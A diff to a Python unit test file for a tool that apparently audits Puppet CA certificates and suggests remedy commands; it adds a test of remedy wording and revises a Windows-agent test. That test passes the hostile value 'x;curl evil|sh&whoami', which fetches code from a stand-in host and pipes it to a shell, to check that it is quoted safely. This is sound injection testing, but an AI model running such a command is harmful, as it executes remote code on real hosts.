@@ -17,11 +17,10 @@ from recert.certificates import Certificate
 from recert.deployments.pe_3_7 import PE_3_7
 from recert.deployments.pe_2015_2 import PE_2015_2
 from recert.extensions import ARC
-from recert.findings import Flaw
+from recert.findings import FindingKind, Flaw
 from recert.looks import HostLook
 from recert.observed import FileState, LastRun, Service
 from recert.others import PRIVATE_KEY, Stray
-from recert.problems import start_remedy
 from recert.report import CertificateRecord, Problem, Role, Severity, Standing
 from recert.survey import SiteState
 from tests.unit.agent import AGENT, SERIAL, agent
@@ -246,6 +245,26 @@ def test_an_agent_of_the_old_ca() -> None:
     assert ("web01", f"{SSLDIR}/certs/ca.pem", given_up) in said(state)
 
 
+def test_a_remedy_names_the_ca_that_is_gone_where_it_is_known() -> None:
+    def remedy(named: bool, *backed_up: str | None) -> str:
+        own = look_at_master(master())
+        assert own.master is not None
+        manifests = tuple(
+            Manifest("", "", "", fingerprint, None, None, None, (), {}) for fingerprint in backed_up
+        )
+        own = replace(own, master=replace(own.master, manifests=manifests))
+        found = site(own, look_at_agent(agent(OLD)), named=named).findings
+        (one,) = {f.remedy for f in found if f.kind is FindingKind.CA_NOT_TRUSTED}
+        return one
+
+    old, third, new = (ca.certificate.fingerprint for ca in (OLD, THIRD, NEW))
+    run = "Run deploys/agents.py with"
+    assert remedy(False) == f"{run} the retire_ca of the CA that is gone."
+    assert remedy(False, None, new) == f"{run} the retire_ca of the CA that is gone."
+    assert remedy(False, third, old, None, new) == f"{run} --data retire_ca={old}"
+    assert remedy(True, third) == f"{run} --data retire_ca={old}"
+
+
 def test_what_is_going_to_be_retired_is_no_problem_yet() -> None:
     old = agent(OLD)
     old.ca = OLD
@@ -360,8 +379,8 @@ def test_a_windows_agent_is_judged_by_its_own_places() -> None:
     remedies = {p.subject: p.remedy for p in state.problems}
     assert remedies["pe-puppet"].startswith("net start pe-puppet;")
     hostile = "x;curl evil|sh&whoami"
-    assert "'x;curl evil|sh&whoami'" in start_remedy(look_at_master(master()), hostile)
-    assert '"x;curl evil|sh&whoami"' in start_remedy(seen, hostile)
+    assert "'x;curl evil|sh&whoami'" in look_at_master(master()).kind.start(hostile)
+    assert '"x;curl evil|sh&whoami"' in seen.kind.start(hostile)
     placed = record(state, f"{place}/etc/a.pem", "win01")
     assert (placed.owner, placed.mode) == ("", "")
 
